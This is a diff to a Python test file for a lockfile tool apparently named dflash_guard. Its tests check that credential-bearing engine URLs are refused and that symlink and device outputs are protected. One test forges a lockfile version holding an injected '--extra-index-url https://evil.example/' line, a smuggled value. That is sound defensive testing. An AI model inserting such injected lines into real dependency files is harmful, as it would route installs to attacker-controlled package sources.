@@ -14,18 +14,9 @@ from dflash_guard.fileio import write_atomic
 from dflash_guard.pins.lockfile import load_lockfile
 from dflash_guard.pins.resolve import parse_engine, parse_package
 from tests.support.hostile import one_line_error
-from tests.support.pins import drafter_files, target_files, write_folder
 
 SHA = "0123456789abcdef0123456789abcdef01234567"
 HASH = "a" * 64
-
-
-@pytest.fixture
-def pair(tmp_path):
-    return (write_folder(tmp_path / "target", target_files()),
-            write_folder(tmp_path / "drafter", drafter_files()))
-
-
 
 
 # --- item 6: no credentials in a recorded URL ----------------------------------------------------
@@ -37,9 +28,9 @@ def pair(tmp_path):
     "ssh://git:ghp_secret@github.com/vllm-project/vllm.git",
     "user:ghp_secret@github.com:vllm-project/vllm.git",
 ])
-def test_an_engine_url_with_credentials_is_refused_and_never_echoed(cli, pair, tmp_path, url):
+def test_an_engine_url_with_credentials_is_refused_and_never_echoed(cli, local_pair, tmp_path, url):
     out = tmp_path / "dflash.lock"
-    result = cli("lock", "--target", pair[0], "--drafter", pair[1], "-o", out,
+    result = cli("lock", "--target", local_pair.target, "--drafter", local_pair.drafter, "-o", out,
                  "--engine", f"vllm={url}@{SHA}")
     message = one_line_error(result)
     assert "credentials" in message or "password" in message
@@ -59,9 +50,9 @@ def test_an_engine_url_without_credentials_is_kept(url):
     assert parse_engine(f"vllm={url}@{SHA}").url == url
 
 
-def test_a_lockfile_engine_url_with_credentials_is_refused(cli, pair, tmp_path):
+def test_a_lockfile_engine_url_with_credentials_is_refused(cli, local_pair, tmp_path):
     out = tmp_path / "dflash.lock"
-    assert cli("lock", "--target", pair[0], "--drafter", pair[1], "-o", out,
+    assert cli("lock", "--target", local_pair.target, "--drafter", local_pair.drafter, "-o", out,
                "--engine", f"vllm=https://github.com/v/v.git@{SHA}").exit_code == 0
     out.write_text(out.read_text().replace("https://github.com", "https://u:tok@github.com"))
     with pytest.raises(InputError, match=r"engines\[0\]\.url: the URL carries credentials"):
@@ -71,9 +62,9 @@ def test_a_lockfile_engine_url_with_credentials_is_refused(cli, pair, tmp_path):
 # --- item 13: a URL Python cannot parse ----------------------------------------------------------
 
 
-def test_an_unclosed_ipv6_engine_url_is_an_input_error(cli, pair, tmp_path):
-    result = cli("lock", "--target", pair[0], "--drafter", pair[1], "-o", tmp_path / "x.lock",
-                 "--engine", f"vllm=http://[::1@{SHA}")
+def test_an_unclosed_ipv6_engine_url_is_an_input_error(cli, local_pair, tmp_path):
+    result = cli("lock", "--target", local_pair.target, "--drafter", local_pair.drafter,
+                 "-o", tmp_path / "x.lock", "--engine", f"vllm=http://[::1@{SHA}")
     assert "not a valid URL" in one_line_error(result)
 
 
@@ -102,9 +93,9 @@ def test_a_valid_package_spec_is_kept():
                                                               (HASH,))
 
 
-def test_requirements_never_carry_an_injected_line_from_a_lockfile(cli, pair, tmp_path):
+def test_requirements_never_carry_an_injected_line_from_a_lockfile(cli, local_pair, tmp_path):
     out = tmp_path / "dflash.lock"
-    assert cli("lock", "--target", pair[0], "--drafter", pair[1], "-o", out,
+    assert cli("lock", "--target", local_pair.target, "--drafter", local_pair.drafter, "-o", out,
                "--package", f"six==1.17.0@sha256:{HASH}").exit_code == 0
     forged = out.read_text().replace(
         "version: 1.17.0", 'version: "1.17.0\\n--extra-index-url https://evil.example/"')
@@ -118,20 +109,21 @@ def test_requirements_never_carry_an_injected_line_from_a_lockfile(cli, pair, tm
 # --- item 11: outputs ----------------------------------------------------------------------------
 
 
-def test_lock_refuses_to_replace_a_symlink(cli, pair, tmp_path):
+def test_lock_refuses_to_replace_a_symlink(cli, local_pair, tmp_path):
     victim = tmp_path / "victim.txt"
     victim.write_text("keep me\n")
     link = tmp_path / "dflash.lock"
     link.symlink_to(victim)
-    result = cli("lock", "--target", pair[0], "--drafter", pair[1], "-o", link)
+    result = cli("lock", "--target", local_pair.target, "--drafter", local_pair.drafter, "-o", link)
     assert "a symlink" in one_line_error(result)
     assert link.is_symlink() and victim.read_text() == "keep me\n"
 
 
-def test_lock_refuses_to_replace_a_device(cli, pair, tmp_path):
+def test_lock_refuses_to_replace_a_device(cli, local_pair, tmp_path):
     device = tmp_path / "full"
     os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 7))  # /dev/full, made here: root runs
-    result = cli("lock", "--target", pair[0], "--drafter", pair[1], "-o", device)
+    result = cli("lock", "--target", local_pair.target, "--drafter", local_pair.drafter,
+                 "-o", device)
     assert "a device" in one_line_error(result)
     assert stat.S_ISCHR(os.lstat(device).st_mode)
 
@@ -159,12 +151,12 @@ def test_a_new_output_gets_the_umask_mode_and_an_old_one_keeps_its_mode(tmp_path
     assert stat.S_IMODE(existing.stat().st_mode) == 0o664 and existing.read_text() == "new"
 
 
-def test_a_failed_write_is_one_line(cli, pair, tmp_path, monkeypatch):
+def test_a_failed_write_is_one_line(cli, local_pair, tmp_path, monkeypatch):
     def no_space(fd):
         raise OSError(28, "No space left on device")
 
     monkeypatch.setattr(os, "fsync", no_space)
     out = tmp_path / "dflash.lock"
-    result = cli("lock", "--target", pair[0], "--drafter", pair[1], "-o", out)
+    result = cli("lock", "--target", local_pair.target, "--drafter", local_pair.drafter, "-o", out)
     assert "No space left on device" in one_line_error(result)
     assert not out.exists() and not list(tmp_path.glob(".dflash.lock.*"))
